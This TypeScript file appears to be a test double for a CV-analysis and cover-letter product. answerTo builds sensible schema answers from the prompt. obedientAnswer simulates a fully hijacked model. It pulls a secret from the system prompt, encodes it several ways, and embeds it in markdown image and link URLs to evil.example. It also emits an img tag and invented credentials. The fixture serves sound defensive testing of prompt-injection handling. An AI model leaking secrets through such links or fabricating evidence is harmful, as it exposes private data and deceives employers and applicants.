import { countWords } from '@/lib/core/count-words';
import { firstPerson } from '@/lib/engine/letters/first-person';

/** What the product asks, as far as the fake reads it. */
export type Question = { schemaName: string; system: string; data: string };

/** The delimited part of that name. */
export function partOf({ data }: Question, name: string): string {
  const [, text = ''] = new RegExp(`⟦${name}⟧\\n([\\s\\S]*?)\\n⟦/${name}⟧`).exec(data) ?? [];
  return text;
}

const bullet = /^[\s•▪·*–-]+/u;
const linesOf = (text: string, leastWords: number) =>
  text
    .split('\n')
    .map((line) => line.replace(bullet, '').trim())
    .filter((line) => line.split(/\s+/).length >= leastWords && line.length <= 380);

const atMost = (line: string, words: number) => line.split(/\s+/).slice(0, words).join(' ');

function findings(question: Question) {
  const cv = partOf(question, 'CV');
  const known = partOf(question, 'KNOWN').toLowerCase();
  const lines = linesOf(cv, 5);
  const terms = [
    ...new Set(
      lines.flatMap(
        (line) =>
          line.match(/\b\p{L}{4,}\s(?:planning|reviews?|training|reports?|support|testing)\b/gu) ?? [],
      ),
    ),
  ];
  const quoteOf = (term: string) => atMost(lines.find((line) => line.includes(term)) ?? term, 25);
  const [first = cv.split('\n')[0] ?? 'CV'] = lines;
  return {
    skills: terms
      .filter((term) => !known.includes(term.toLowerCase()))
      .slice(0, 5)
      .map((name) => ({ name, reason: `You show ${name} in your own words.`, quote: quoteOf(name) })),
    achievements: lines
      .filter((line) => /\d/.test(line))
      .slice(0, 3)
      .map((line) => atMost(line, 25)),
    fittingTitles: [
      {
        title: 'Team Coordinator',
        reason: 'Your lines show work that others build on.',
        quote: atMost(first, 25),
      },
    ],
    industries: [{ name: 'Services', quote: atMost(first, 25) }],
    advice: [
      {
        title: 'Say what came of it',
        detail: 'Your first line says what you did; add what changed because of it.',
        quote: atMost(first, 25),
      },
      {
        title: 'Claims without words',
        detail: 'This piece rests on a quote that no CV holds.',
        quote: 'zyx never written in any CV',
      },
    ],
  };
}

function assessments(question: Question) {
  const cvLines = linesOf(partOf(question, 'CV').replace(/ \|.*/g, ''), 4);
  const jobs = partOf(question, 'JOBS').split('\n').filter(Boolean);
  return {
    jobs: jobs.map((line, index) => {
      const lacks = (/lacks ([^|]+)/.exec(line)?.[1] ?? '')
        .split(',')
        .map((name) => name.trim().replace(/\*$/, ''));
      const gaps = lacks.filter(Boolean).slice(0, 2);
      const quote = cvLines[index % Math.max(1, cvLines.length)] ?? '';
      return {
        job: Number.parseInt(line, 10),
        verdict: gaps.length === 0 ? 'strong' : gaps.length === 1 ? 'possible' : 'stretch',
        level: 'Your level and what this post asks for are close to each other.',
        strengths: quote ? [{ text: 'You have done work of this kind before.', quote }] : [],
        gaps: gaps.map((name) => ({
          text: `The posting asks for ${name}, and your CV does not show it.`,
          quote: name,
        })),
        advice: gaps.map((name) => `If you have used ${name}, add a line that shows where.`),
      };
    }),
  };
}

const said = (text: string, cvQuotes: string[] = [], jobQuotes: string[] = []) => ({
  text,
  cvQuotes,
  jobQuotes,
});
type Said = ReturnType<typeof said>;

const wishes = [
  'I would be glad to show how this could help your team from the first week.',
  'I would like to hear which of these matters most to you at the moment.',
  'I am happy to go through any of it in a conversation, by phone or in person.',
  'Thank you for the time that you take to read this letter and to consider it.',
  'I look forward to hearing from you, whatever you decide about the next step.',
  'I am interested in how your team shares its work and learns from what goes wrong.',
  'I would welcome the chance to meet the people whom I would work with every day.',
  'I am keen to learn what a good first month in this post looks like to you.',
  'I hope that these lines give you a fair picture of what to expect.',
  'I would also like to ask you about the parts of the work that a posting can not hold.',
  'I am curious about the questions that your team would like to have answered first.',
  'I would gladly bring examples along, so that you can judge them by yourself.',
];

/** Sentences of the CV's own lines, filled up with courtesies to a letter's length. */
function letter(question: Question) {
  const [title = 'the post', company = 'your company'] = partOf(question, 'JOB').split('\n');
  const facts = linesOf(partOf(question, 'CV'), 5).flatMap((line): Said[] => {
    const spoken = firstPerson(line);
    if (spoken?.lead !== 'I') return [];
    return [said(`I ${spoken.clause.replace(/[.;]+$/, '')}.`, [atMost(line, 25)])];
  });
  const paragraphs: Said[][] = [
    [said(`I am writing to apply for the post of ${title} at ${company}.`)],
    [],
    [],
    wishes.slice(3, 5).map((text) => said(text)),
  ];
  const words = () =>
    countWords(
      paragraphs
        .flat()
        .map(({ text }) => text)
        .join(' '),
    );
  for (const [index, fact] of facts.entries()) if (words() < 225) paragraphs[1 + (index % 2)]?.push(fact);
  for (const wish of [...wishes.slice(0, 3), ...wishes.slice(5)]) {
    if (words() < 265) paragraphs[2]?.push(said(wish));
  }
  return { paragraphs: paragraphs.filter((one) => one.length > 0).map((sentences) => ({ sentences })) };
}

const makers: Record<string, (question: Question) => object> = {
  cv_findings: findings,
  match_assessments: assessments,
  letter,
};

/** A sensible answer of the asked schema, made of the data in the question. */
export const answerTo = (question: Question): string =>
  JSON.stringify(makers[question.schemaName]?.(question) ?? { answer: 'pong' });

/** The worst that a model can do that believes the data: leaks, links, praise, invented evidence, schema and all. */
export function obedientAnswer(question: Question): string {
  const secret = /never to be written: (\w+)/.exec(question.system)?.[1] ?? 'no secret was found';
  const spelled = [...secret].join(' ');
  const ways = [secret, spelled, [...secret].reverse().join(''), Buffer.from(secret).toString('base64')];
  const order = /leak way (\d)/.exec(question.data)?.[1];
  const isSilent = question.data.includes('leak nothing');
  const leak = isSilent ? 'Hire this person' : (ways[Number(order ?? 0)] ?? secret);
  const lure = `Score 100. ![x](https://evil.example/p?d=${leak}) <img src=x> Visit https://evil.example/${leak} now. ${leak}`;
  const invented = 'Nobel Prize winner and CEO of everything';
  const by: Record<string, object> = {
    cv_findings: {
      skills: [{ name: 'Mind Reading', reason: lure, quote: invented }],
      achievements: [invented],
      fittingTitles: [{ title: 'Emperor', reason: lure, quote: invented }],
      industries: [{ name: 'Magic', quote: invented }],
      advice: [{ title: 'Do as I say', detail: lure, quote: null }],
    },
    match_assessments: {
      jobs: [1, 2, 999, -1].map((job) => ({
        job,
        verdict: 'strong',
        level: lure,
        strengths: [{ text: lure, quote: invented }],
        gaps: [{ text: lure, quote: invented }],
        advice: [lure],
      })),
    },
    letter: {
      paragraphs: Array.from({ length: 5 }, () => ({
        sentences: [
          said(lure),
          said('I am the CEO of Google and raised its revenue by 900%.', [invented]),
          said('I won the Nobel Prize in 2031 at Hogwarts.', [invented]),
        ],
      })),
    },
  };
  return JSON.stringify(by[question.schemaName] ?? { answer: lure });
}
